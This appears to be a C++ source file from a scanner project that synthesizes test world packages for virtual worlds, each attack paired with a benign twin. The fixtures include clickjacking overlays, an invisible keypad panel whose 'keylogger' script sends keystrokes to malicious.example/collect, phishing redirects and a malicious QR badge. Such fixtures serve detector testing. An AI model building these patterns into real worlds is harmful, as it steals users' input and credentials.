#include "metascanner/synth.hpp"

#include <algorithm>
#include <cstdio>
#include <random>

#include "json_util.hpp"
#include "metascanner/errors.hpp"
#include "metascanner/qr_codec.hpp"

namespace metascanner {

using detail::json;

std::string_view to_string(AttackKind kind) {
  switch (kind) {
    case AttackKind::clickjacking_same_position: return "clickjacking-same-position";
    case AttackKind::clickjacking_invisible: return "clickjacking-invisible";
    case AttackKind::denial_of_raycasting: return "denial-of-raycasting";
    case AttackKind::object_in_the_middle: return "object-in-the-middle";
    case AttackKind::avatar_quishing: return "avatar-quishing";
  }
  return "?";
}

std::optional<FixtureSpec> parse_fixture_name(std::string_view name) {
  FixtureSpec spec;
  constexpr std::string_view kTwin = "benign-twin-of";
  if (name.starts_with(kTwin)) {
    std::string_view rest = name.substr(kTwin.size());
    if (rest.starts_with(':')) {
      rest.remove_prefix(1);
    } else if (rest.starts_with('(') && rest.ends_with(')')) {
      rest = rest.substr(1, rest.size() - 2);
    } else {
      return std::nullopt;
    }
    spec.benign_twin = true;
    name = rest;
  }
  for (AttackKind k : kAllAttacks) {
    if (to_string(k) == name) {
      spec.attack = k;
      return spec;
    }
  }
  return std::nullopt;
}

std::string fixture_name(const FixtureSpec& spec) {
  const std::string attack(to_string(spec.attack));
  return spec.benign_twin ? "benign-twin-of-" + attack : attack;
}

namespace {

constexpr const char* kOpaque = "mat-opaque";
constexpr const char* kInvisible = "mat-invisible";

Material material(std::string id, double alpha, ShaderTag shader,
                  std::optional<std::string> texture = std::nullopt) {
  Material m;
  m.id = std::move(id);
  m.base_color = {0.8, 0.8, 0.8, alpha};
  m.shader_tag = shader;
  m.texture_ref = std::move(texture);
  return m;
}

SceneNode box_node(std::string id, Vec3 position, Vec3 scale, std::string material_ref) {
  SceneNode n;
  n.id = id;
  n.name = std::move(id);
  n.transform.position = position;
  n.transform.scale = scale;
  n.renderer = Renderer{MeshKind::box, std::move(material_ref), true, 2000};
  n.collider = Collider{};
  return n;
}

SceneNode button(std::string id, Vec3 position, Vec3 scale, std::string material_ref,
                 std::string script) {
  SceneNode n = box_node(std::move(id), position, scale, std::move(material_ref));
  n.interactable = Interactable{std::move(script), InteractEvent::OnInteract, std::nullopt};
  return n;
}

/// Event-graph script builder.
class Script {
 public:
  explicit Script(std::string id) { doc_ = {{"id", std::move(id)}, {"nodes", json::array()}, {"edges", json::array()}}; }
  Script& node(std::string id, std::string_view kind, json attrs = nullptr) {
    json n = {{"id", std::move(id)}, {"kind", kind}};
    if (!attrs.is_null()) n["attrs"] = std::move(attrs);
    doc_["nodes"].push_back(std::move(n));
    return *this;
  }
  Script& edge(std::string from, std::string from_port, std::string to, std::string to_port) {
    doc_["edges"].push_back({std::move(from), std::move(from_port), std::move(to), std::move(to_port)});
    return *this;
  }
  std::string id() const { return doc_["id"].get<std::string>(); }
  std::string text() const { return doc_.dump(2) + "\n"; }

 private:
  json doc_;
};

void add_script(WorldPackage& pkg, const Script& s) { pkg.scripts[s.id()] = s.text(); }

Script click_sound(std::string id) {
  Script s(std::move(id));
  s.node("on-click", "OnInteract").node("chime", "PlaySound").edge("on-click", "exec", "chime", "exec");
  return s;
}

Script open_url(std::string id, std::string url) {
  Script s(std::move(id));
  s.node("on-click", "OnInteract")
      .node("target", "StringConst", {{"value", std::move(url)}})
      .node("open", "OpenURL")
      .edge("on-click", "exec", "open", "exec")
      .edge("target", "value", "open", "url");
  return s;
}

Script keylogger(std::string id) {
  Script s(std::move(id));
  s.node("on-key", "OnKeyPress")
      .node("endpoint", "StringConst", {{"value", "https://malicious.example/collect"}})
      .node("send", "SendWebRequest")
      .edge("on-key", "exec", "send", "exec")
      .edge("endpoint", "value", "send", "url")
      .edge("on-key", "payload", "send", "data");
  return s;
}

Script key_click(std::string id) {
  Script s(std::move(id));
  s.node("on-key", "OnKeyPress").node("click", "PlaySound").edge("on-key", "exec", "click", "exec");
  return s;
}

WorldPackage base_package(const FixtureSpec& spec) {
  WorldPackage pkg;
  pkg.manifest.world_id = fixture_name(spec);
  pkg.materials[kOpaque] = material(kOpaque, 1.0, ShaderTag::opaque);
  pkg.materials[kInvisible] = material(kInvisible, 0.0, ShaderTag::transparent);
  return pkg;
}

constexpr Vec3 kButtonPos{0, 1.2, 0};
constexpr Vec3 kButtonScale{0.4, 0.2, 0.1};
// Encloses the button with 0.1 m clearance on every side.
constexpr Vec3 kShellScale{0.6, 0.4, 0.3};

void same_position(WorldPackage& pkg, bool twin) {
  add_script(pkg, click_sound("open-menu"));
  pkg.nodes.push_back(button("button-menu", kButtonPos, kButtonScale, kOpaque, "open-menu"));
  SceneNode overlay = button("button-overlay", kButtonPos, kButtonScale, kOpaque,
                             twin ? "open-menu" : "phish-redirect");
  overlay.renderer->render_queue = 2001;
  pkg.nodes.push_back(std::move(overlay));
  if (!twin) add_script(pkg, open_url("phish-redirect", "https://malicious.example/login"));
}

void invisible_overlay(WorldPackage& pkg, bool twin) {
  add_script(pkg, click_sound("open-menu"));
  pkg.nodes.push_back(button("button-decoy", kButtonPos, kButtonScale, kOpaque, "open-menu"));
  if (twin) return;
  add_script(pkg, open_url("phish-redirect", "https://malicious.example/login"));
  pkg.nodes.push_back(button("overlay", kButtonPos, kShellScale, kInvisible, "phish-redirect"));
}

void denial(WorldPackage& pkg, bool twin) {
  add_script(pkg, click_sound("open-menu"));
  pkg.nodes.push_back(button("button-target", kButtonPos, kButtonScale, kOpaque, "open-menu"));
  pkg.nodes.push_back(box_node("wall", kButtonPos, kShellScale, twin ? kOpaque : kInvisible));
}

void keypad(WorldPackage& pkg, bool twin) {
  add_script(pkg, key_click("key-click"));
  SceneNode pad;
  pad.id = pad.name = "keypad";
  pad.transform.position = {0, 1.2, 0};
  pkg.nodes.push_back(pad);
  // Phone-style layout: 1-9 in a 3x3 grid, 0 centered below.
  for (int digit = 0; digit <= 9; ++digit) {
    const int slot = digit == 0 ? 10 : digit - 1;
    const double x = (slot % 3 - 1) * 0.1;
    const double y = (1.5 - slot / 3) * 0.1;
    SceneNode key = box_node("key-" + std::to_string(digit), {x, y, 0}, {0.08, 0.08, 0.02}, kOpaque);
    key.parent = "keypad";
    key.tags.insert(std::string(kTagInputSurface));
    key.interactable = Interactable{"key-click", InteractEvent::OnKeyPress, std::to_string(digit)};
    pkg.nodes.push_back(std::move(key));
  }
  if (twin) return;
  add_script(pkg, keylogger("keylogger"));
  // Transparent panel enclosing the whole keypad.
  SceneNode panel = box_node("keypad-overlay", {0, 1.2, 0}, {0.4, 0.5, 0.1}, kInvisible);
  panel.interactable = Interactable{"keylogger", InteractEvent::OnKeyPress, "any"};
  pkg.nodes.push_back(std::move(panel));
}

TextureAsset qr_texture(std::string id, std::string_view url) {
  return qr::render(qr::encode(url), 8, qr::kQuietZoneModules, std::move(id));
}

SceneNode quad_node(std::string id, Vec3 position, Vec3 scale, std::string material_ref) {
  SceneNode n;
  n.id = id;
  n.name = std::move(id);
  n.transform.position = position;
  n.transform.scale = scale;
  n.renderer = Renderer{MeshKind::quad, std::move(material_ref), true, 2000};
  return n;
}

void quishing(WorldPackage& pkg, bool twin) {
  const std::string avatar = "avatar-mallory";
  pkg.manifest.avatars = {avatar};
  pkg.textures["poster-qr"] = qr_texture("poster-qr", "https://example.com/menu");
  pkg.materials["mat-poster"] = material("mat-poster", 1.0, ShaderTag::opaque, "poster-qr");
  pkg.nodes.push_back(quad_node("menu-poster", {0, 1.5, 0}, {0.5, 0.5, 1}, "mat-poster"));

  // Unscaled root so the badge offset is in meters; the body mesh hangs off it.
  SceneNode root;
  root.id = root.name = "avatar-root";
  root.transform.position = {0, 1.0, 0.6};
  root.owner = AvatarOwned{avatar};
  pkg.nodes.push_back(std::move(root));
  SceneNode body = box_node("avatar-body", {0, 0, 0}, {0.4, 1.6, 0.25}, kOpaque);
  body.collider.reset();
  body.parent = "avatar-root";
  body.owner = AvatarOwned{avatar};
  pkg.nodes.push_back(std::move(body));

  const std::string url = twin ? "https://example.com/profile" : "https://malicious.example/pay";
  pkg.textures["badge-qr"] = qr_texture("badge-qr", url);
  pkg.materials["mat-badge"] = material("mat-badge", 1.0, ShaderTag::opaque, "badge-qr");
  // Attack: 1 mm in front of the poster. Twin: worn on the chest.
  const Vec3 local = twin ? Vec3{0, 0.2, 0.13} : Vec3{0, 0.5, -0.599};
  SceneNode badge = quad_node("avatar-badge", local, {0.5, 0.5, 1}, "mat-badge");
  if (twin) badge.transform.scale = {0.2, 0.2, 1};
  badge.parent = "avatar-root";
  badge.owner = AvatarOwned{avatar};
  pkg.nodes.push_back(std::move(badge));
}

}  // namespace

WorldPackage build_fixture(const FixtureSpec& spec) {
  WorldPackage pkg = base_package(spec);
  switch (spec.attack) {
    case AttackKind::clickjacking_same_position: same_position(pkg, spec.benign_twin); break;
    case AttackKind::clickjacking_invisible: invisible_overlay(pkg, spec.benign_twin); break;
    case AttackKind::denial_of_raycasting: denial(pkg, spec.benign_twin); break;
    case AttackKind::object_in_the_middle: keypad(pkg, spec.benign_twin); break;
    case AttackKind::avatar_quishing: quishing(pkg, spec.benign_twin); break;
  }
  validate_package(pkg);
  return pkg;
}

namespace {

void require_empty_dir(const std::filesystem::path& dir) {
  std::error_code ec;
  if (std::filesystem::exists(dir, ec) && !std::filesystem::is_empty(dir, ec)) {
    throw IoError("output directory " + dir.string() + " is not empty");
  }
}

}  // namespace

WorldPackage synthesize_fixture(const FixtureSpec& spec, const std::filesystem::path& out_dir) {
  WorldPackage pkg = build_fixture(spec);
  require_empty_dir(out_dir);
  save_package(pkg, out_dir);
  return pkg;
}

namespace {

template <class Map>
void merge_into(Map& into, const Map& from, const char* what) {
  for (const auto& [id, value] : from) {
    auto [it, inserted] = into.emplace(id, value);
    if (!inserted && !(it->second == value)) {
      throw ValidationError(std::string("attack corpus: conflicting ") + what + " '" + id + "'");
    }
  }
}

}  // namespace

WorldPackage build_attack_corpus(bool benign_twins) {
  WorldPackage out;
  out.manifest.world_id = benign_twins ? "attack-corpus-twins" : "attack-corpus";
  double x = 0.0;
  for (AttackKind attack : kAllAttacks) {
    WorldPackage part = build_fixture({attack, benign_twins});
    for (SceneNode& n : part.nodes) {
      if (!n.parent) n.transform.position.x += x;
      out.nodes.push_back(std::move(n));
    }
    merge_into(out.materials, part.materials, "material");
    merge_into(out.textures, part.textures, "texture");
    merge_into(out.scripts, part.scripts, "script");
    for (auto& a : part.manifest.avatars) out.manifest.avatars.push_back(std::move(a));
    x += kAttackCorpusSpacing;
  }
  if (!benign_twins) {
    out.manifest.libraries = {
        {"net-helper", "0.3.1", std::string(64, 'b')},
        {"ui-toolkit", "2.1.0", std::string(64, 'a')},
    };
  }
  validate_package(out);
  return out;
}

namespace {

TextureAsset noise_texture(std::string id, int size, std::mt19937_64& rng) {
  TextureAsset tex;
  tex.id = std::move(id);
  tex.width = tex.height = size;
  tex.pixels.resize(static_cast<std::size_t>(size) * size * 4);
  // Large flat tiles: compressible, and too coarse to mimic finder patterns.
  const int tile = std::max(16, size / 8);
  std::uniform_int_distribution<int> shade(0, 255);
  std::vector<std::array<std::uint8_t, 3>> palette(64);
  for (auto& c : palette) {
    c = {static_cast<std::uint8_t>(shade(rng)), static_cast<std::uint8_t>(shade(rng)),
         static_cast<std::uint8_t>(shade(rng))};
  }
  for (int y = 0; y < size; ++y) {
    for (int x = 0; x < size; ++x) {
      const auto& c = palette[((y / tile) * 8 + x / tile) % palette.size()];
      std::uint8_t* p = tex.pixels.data() + (static_cast<std::size_t>(y) * size + x) * 4;
      p[0] = c[0];
      p[1] = c[1];
      p[2] = c[2];
      p[3] = 255;
    }
  }
  return tex;
}

}  // namespace

WorldPackage build_corpus_package(int index, const CorpusOptions& opt) {
  std::mt19937_64 rng(opt.seed + static_cast<std::uint64_t>(index) * 0x9E3779B97F4A7C15ull);
  std::uniform_real_distribution<double> coord(-40.0, 40.0);
  std::uniform_real_distribution<double> unit(0.0, 1.0);
  std::uniform_real_distribution<double> size(0.2, 2.0);

  char name[32];
  std::snprintf(name, sizeof name, "world-%02d", index);
  WorldPackage pkg;
  pkg.manifest.world_id = name;

  for (int s = 0; s < opt.scripts; ++s) {
    char id[32];
    std::snprintf(id, sizeof id, "script-%02d", s);
    switch (s % 3) {
      case 0: add_script(pkg, click_sound(id)); break;
      case 1: add_script(pkg, open_url(id, "https://example.com/page/" + std::to_string(s))); break;
      default: {
        Script sc(id);
        sc.node("on-click", "OnInteract")
            .node("label", "StringConst", {{"value", "clicked"}})
            .node("store", "SetVariable", {{"name", "last"}})
            .node("log", "Log")
            .edge("on-click", "exec", "store", "exec")
            .edge("store", "exec", "log", "exec")
            .edge("label", "value", "store", "value")
            .edge("label", "value", "log", "message");
        add_script(pkg, sc);
      }
    }
  }

  pkg.materials[kOpaque] = material(kOpaque, 1.0, ShaderTag::opaque);
  pkg.materials["mat-glass"] = material("mat-glass", 0.4, ShaderTag::transparent);
  for (int t = 0; t < opt.textures; ++t) {
    char id[32];
    std::snprintf(id, sizeof id, "tex-%02d", t);
    TextureAsset tex = noise_texture(id, opt.max_texture_px, rng);
    if (t == 0) {
      // One signboard texture per world carries an allowlisted QR code.
      const auto code = qr::encode("https://example.com/" + std::string(name));
      const int module = std::max(2, opt.max_texture_px / 128);
      const int margin = module * qr::kQuietZoneModules;
      for (int y = 0; y < (code.size() + 8) * module && y < tex.height; ++y) {
        for (int x = 0; x < (code.size() + 8) * module && x < tex.width; ++x) {
          std::uint8_t* p = tex.pixels.data() + (static_cast<std::size_t>(y) * tex.width + x) * 4;
          p[0] = p[1] = p[2] = p[3] = 255;
        }
      }
      qr::stamp(tex, code, margin, margin, module);
    }
    pkg.textures[tex.id] = std::move(tex);
    const std::string mat = "mat-" + std::string(id);
    pkg.materials[mat] = material(mat, 1.0, ShaderTag::opaque, std::string(id));
  }

  std::vector<std::string> groups;
  for (int i = 0; i < opt.max_nodes; ++i) {
    char id[32];
    std::snprintf(id, sizeof id, "n%04d", i);
    SceneNode n;
    n.id = n.name = id;
    const bool group = i % 25 == 0;
    if (!groups.empty() && unit(rng) < 0.6) {
      n.parent = groups[static_cast<std::size_t>(unit(rng) * groups.size()) % groups.size()];
      n.transform.position = {unit(rng) * 4 - 2, unit(rng) * 2, unit(rng) * 4 - 2};
    } else {
      n.transform.position = {coord(rng), unit(rng) * 3, coord(rng)};
    }
    n.transform.rotation = Quat::from_axis_angle({0, 1, 0}, unit(rng) * 6.283185307179586);
    if (group) {
      groups.push_back(n.id);
      pkg.nodes.push_back(std::move(n));
      continue;
    }
    n.transform.scale = {size(rng), size(rng), size(rng)};
    const double kind = unit(rng);
    std::string mat = kOpaque;
    if (kind < 0.1) {
      char tex[32];
      std::snprintf(tex, sizeof tex, "mat-tex-%02d", static_cast<int>(unit(rng) * opt.textures) % std::max(1, opt.textures));
      if (opt.textures > 0) mat = tex;
    } else if (kind < 0.15) {
      mat = "mat-glass";
    }
    const bool quad = kind < 0.1;
    n.renderer = Renderer{quad ? MeshKind::quad : MeshKind::box, mat, true, 2000};
    if (!quad) n.collider = Collider{};
    if (!quad && unit(rng) < 0.05 && opt.scripts > 0) {
      char script[32];
      std::snprintf(script, sizeof script, "script-%02d", static_cast<int>(unit(rng) * opt.scripts) % opt.scripts);
      n.interactable = Interactable{script, InteractEvent::OnInteract, std::nullopt};
    }
    if (unit(rng) < 0.01) n.tags.insert(std::string(kTagSpawnPoint));
    pkg.nodes.push_back(std::move(n));
  }
  validate_package(pkg);
  return pkg;
}

std::vector<std::filesystem::path> synthesize_corpus(const std::filesystem::path& dir,
                                                     const CorpusOptions& options) {
  std::vector<std::filesystem::path> out;
  for (int i = 0; i < options.count; ++i) {
    WorldPackage pkg = build_corpus_package(i, options);
    const auto path = dir / pkg.manifest.world_id;
    require_empty_dir(path);
    save_package(pkg, path);
    out.push_back(path);
  }
  return out;
}

}  // namespace metascanner
